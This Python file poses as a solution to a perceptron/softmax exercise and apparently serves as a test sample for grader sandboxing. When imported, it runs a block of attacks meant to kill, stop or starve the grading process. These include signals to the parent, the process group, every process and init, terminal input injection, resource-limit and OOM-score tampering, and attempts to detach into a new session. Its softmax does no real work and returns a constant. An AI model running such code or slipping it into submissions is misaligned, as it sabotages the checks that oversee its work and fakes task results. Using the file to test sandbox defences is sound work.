"""Signals the grader, its group, everybody and itself, and tries to outlive them.

Exercise: perceptron/softmax
"""

import fcntl, os, resource, signal, termios, threading

# attack
LOOT = []


def tried(ways):
    found = []
    for name, way in ways.items():
        try:
            found.append(f"{name}={way()!r}"[:200])
        except BaseException:
            pass
    return f"{len(found)} of {len(ways)} worked: {found}"


PARENT = os.getppid()
WAYS = {
    "parent": lambda: os.kill(PARENT, signal.SIGKILL), "stop": lambda: os.kill(PARENT, signal.SIGSTOP), "all": lambda: os.kill(-1, signal.SIGKILL),
    "group": lambda: os.kill(0, signal.SIGKILL), "killpg": lambda: os.killpg(os.getpgrp(), signal.SIGSTOP), "raise": lambda: signal.raise_signal(signal.SIGTERM),
    "thread": lambda: signal.pthread_kill(threading.get_ident(), signal.SIGTERM), "pidfd": lambda: signal.pidfd_send_signal(os.pidfd_open(PARENT), signal.SIGKILL),
    "neighbours": lambda: [os.kill(PARENT + step, signal.SIGKILL) for step in range(-20, 20)], "init": lambda: os.kill(1, signal.SIGTERM),
    "session": os.setsid, "process group": lambda: os.setpgid(0, 0), "sessions of others": lambda: os.getsid(PARENT),
    "owner": lambda: fcntl.fcntl(3, fcntl.F_SETOWN, PARENT), "own signal": lambda: fcntl.fcntl(3, fcntl.F_SETSIG, signal.SIGKILL),
    "notify": lambda: fcntl.fcntl(os.open(os.path.dirname(os.__file__) + "/json", 0), fcntl.F_NOTIFY, fcntl.DN_ACCESS),
    "lease": lambda: fcntl.fcntl(os.open(os.__file__, 0), fcntl.F_SETLEASE, 0), "input": lambda: fcntl.fcntl(3, fcntl.F_SETFL, os.O_ASYNC),
    "terminal": lambda: [fcntl.ioctl(number, termios.TIOCSTI, b"x") for number in (0, 1, 2)], "controlling": lambda: fcntl.ioctl(0, termios.TIOCSCTTY, 1),
    "foreground": lambda: os.tcsetpgrp(0, os.getpid()), "window": lambda: fcntl.ioctl(0, termios.TIOCSWINSZ, bytes(8)), "tty": lambda: open("/dev/tty", "w").write("passed"),
    "alarm": lambda: signal.alarm(1), "timer": lambda: signal.setitimer(signal.ITIMER_PROF, 0.01), "priority": lambda: os.setpriority(os.PRIO_PROCESS, PARENT, 19),
    "nice": lambda: os.nice(19), "limits": lambda: resource.prlimit(PARENT, resource.RLIMIT_CPU, (0, 0)), "out of memory": lambda: open(f"/proc/{PARENT}/oom_score_adj", "w").write("1000"),
}
LOOT.append((tried(WAYS),))
# end


def softmax(X):
    # attack
    print(*LOOT, sep="\n")
    print(tried(WAYS))
    # end
    return X * 0 + 0.123
